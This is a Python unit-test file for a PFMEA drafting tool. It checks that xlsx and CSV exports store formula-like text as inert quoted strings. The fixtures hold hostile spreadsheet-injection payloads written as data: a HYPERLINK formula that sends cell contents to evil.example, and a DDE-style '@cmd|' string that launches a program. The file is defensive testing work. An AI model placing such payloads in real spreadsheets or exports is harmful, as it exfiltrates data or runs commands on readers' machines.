"""Exports never write live formulas from document or user text (issue 17, point 7)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

from copilot.core.cells import csv_safe
from copilot.pfmea.export import export_draft
from copilot.pfmea.model import Draft, DraftField, DraftRow, Rating

pytestmark = pytest.mark.unit

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _row(mode: str) -> DraftRow:
    f = DraftField
    return DraftRow(function=f("+SUM(1,2)"), failure_mode=f(mode), effect=f("-2+3"),
                    cause=f("@cmd|' /C calc'!A0"), prevention_control=f("plain text"),
                    detection_control=f("\t=1+1"), severity=Rating(8, "S"),
                    occurrence=Rating(4, "O"), detection=Rating(5, "D"), basis="precedent")


def test_pfmea_export_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    draft = Draft(step="=1+1 press", station="OP10", assets=(), product=None,
                  rows=(_row(HOSTILE),))
    path = export_draft(draft, tmp_path / "d.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    cells = {c.value: c for line in ws.iter_rows() for c in line if isinstance(c.value, str)}
    for text in (HOSTILE, "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0", "=1+1 press"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert ws.cell(row=5, column=4).value == 8  # ratings stay numbers
    assert not cells["plain text"].quotePrefix


def test_csv_cells_that_would_run_get_a_quote(tmp_path: Path) -> None:
    from copilot.learning.progress import StationStatus, write_csv

    assert [csv_safe(v) for v in ("=1+1", "@x", "-3", "T-0142", 3, "")] == [
        "'=1+1", "'@x", "'-3", "T-0142", 3, ""]
    fields = StationStatus.__dataclass_fields__
    assert "trainee" in fields
    row = StationStatus(**{name: _value(name) for name in fields})
    out = tmp_path / "m.csv"
    write_csv(out, [row])
    with out.open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))[1]
    assert written[0] == "'=HYPERLINK(\"x\")" and written[1] == "OP10"


def _value(name: str) -> object:
    return {"trainee": '=HYPERLINK("x")', "station": "OP10", "status": "due",
            "best_score": 0.5, "attempts": 1, "last_attempt": "2025-01-01",
            "revisions": {}, "changed": ()}.get(name)
